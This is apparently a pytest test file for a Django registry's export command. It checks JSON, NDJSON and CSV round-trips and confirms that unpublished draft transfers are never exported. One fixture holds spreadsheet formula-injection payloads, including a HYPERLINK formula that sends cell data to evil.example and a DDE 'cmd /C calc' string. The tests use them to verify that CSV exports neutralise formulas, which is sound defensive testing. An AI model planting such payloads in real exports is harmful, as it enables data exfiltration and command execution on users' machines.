"""`oversight export`: public fields round-trip in every format; drafts never leave."""

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from oversight.core import publication
from oversight.registry import actions
from oversight.registry.tests.excerpts import run, write_sii, write_uk

pytestmark = pytest.mark.django_db

SECRET = "unpublished-transfer-1"


@pytest.fixture
def transfers(tmp_path: Path) -> list[dict[str, Any]]:
    run("import", "transfers", str(write_sii(tmp_path)))
    draft = {"title": "Draft", "recipient_jurisdiction_id": "IE", "published": False}
    actions.upsert_transfer(SECRET, draft, actor_label="test")
    schema = publication.get("transfers")
    rows: list[dict[str, Any]] = json.loads(json.dumps(list(schema.rows()), default=str))
    return rows


def _export(tmp_path: Path, kind: str, fmt: str) -> str:
    out = tmp_path / f"export.{fmt}"
    call_command("export", kind, "--format", fmt, "--output", str(out))
    return out.read_text(encoding="utf-8")


def test_it_round_trips_public_fields_as_json(tmp_path: Path, transfers: list[Any]) -> None:
    exported = json.loads(_export(tmp_path, "transfers", "json"))
    assert exported == transfers
    assert len(exported) == 3
    assert set(exported[0]) == set(publication.get("transfers").fields)


def test_it_round_trips_public_fields_as_ndjson(tmp_path: Path, transfers: list[Any]) -> None:
    lines = _export(tmp_path, "transfers", "ndjson").splitlines()
    assert [json.loads(line) for line in lines] == transfers


def test_it_round_trips_public_fields_as_csv(tmp_path: Path, transfers: list[Any]) -> None:
    rows = list(csv.DictReader(_export(tmp_path, "transfers", "csv").splitlines()))
    assert [row["external_id"] for row in rows] == [row["external_id"] for row in transfers]
    for row, expected in zip(rows, transfers, strict=True):
        assert json.loads(row["goods"]) == expected["goods"]
        assert json.loads(row["source_links"]) == expected["source_links"]
        assert row["recipient_country_code"] == expected["recipient_country_code"]
        assert row["year"] == str(expected["year"] or "")


@pytest.mark.parametrize("fmt", ["csv", "json", "ndjson"])
def test_it_never_exports_an_unpublished_transfer(
    tmp_path: Path, transfers: list[Any], fmt: str
) -> None:
    text = _export(tmp_path, "transfers", fmt)
    assert SECRET not in text and "Draft" not in text


def test_it_reimports_an_exported_licence_file_as_unchanged(tmp_path: Path) -> None:
    run("import", "uk-licences", str(write_uk(tmp_path)))
    exported = _export(tmp_path, "licence-statistics", "csv")
    path = tmp_path / "again.csv"
    path.write_text(exported, encoding="utf-8")
    output = run(
        "import", "uk-licences", str(path),
        "--map", "destination_text=country",
        "--map", "destination=unused", "--map", "decided_on=date",
    )  # fmt: skip
    assert "3 accepted (0 created, 0 updated, 3 unchanged), 0 rejected" in output


def test_it_names_an_unknown_dataset() -> None:
    with pytest.raises(CommandError, match="no public dataset called 'secrets'"):
        call_command("export", "secrets")


HOSTILE_SII: dict[str, Any] = {
    "unique_id": "Hostile_1",
    "title": '=HYPERLINK("http://evil.example/?q="&A1,"Report")',
    "supplier_company": "",
    "company_name": "",
    "supplier_company_hq": "",
    "recipient_country": "France",
    "enduser": "@SUM(1,1)",
    "goods": ["+1+1"],
    "order_year": "2015",
    "transfer_to_enduser_reported_as_complete": "Unknown",
    "export_data_or_open_source": "Open",
    "sources": "=cmd|' /C calc'!A0",
    "source_links": [],
}


def test_it_neutralises_formulas_in_the_csv_export_and_keeps_json_exact(tmp_path: Path) -> None:
    run("import", "transfers", str(write_sii(tmp_path, HOSTILE_SII)))
    exported = list(csv.DictReader(_export(tmp_path, "transfers", "csv").splitlines()))
    [row] = [row for row in exported if row["external_id"] == "Hostile_1"]
    assert row["title"] == "'" + HOSTILE_SII["title"]
    assert row["sources"] == "'" + HOSTILE_SII["sources"]
    [record] = [
        r for r in json.loads(_export(tmp_path, "transfers", "json")) if r["title"][0] == "="
    ]
    assert (record["title"], record["sources"]) == (HOSTILE_SII["title"], HOSTILE_SII["sources"])


def test_the_public_csv_download_neutralises_formulas(tmp_path: Path) -> None:
    run("import", "transfers", str(write_sii(tmp_path, HOSTILE_SII)))
    body = Client().get("/transfers/?format=csv").getvalue().decode()
    titles = [row["title"] for row in csv.DictReader(body.splitlines())]
    assert "'" + HOSTILE_SII["title"] in titles
    assert not [title for title in titles if title[:1] in ("=", "+", "-", "@", "\t", "\r")]
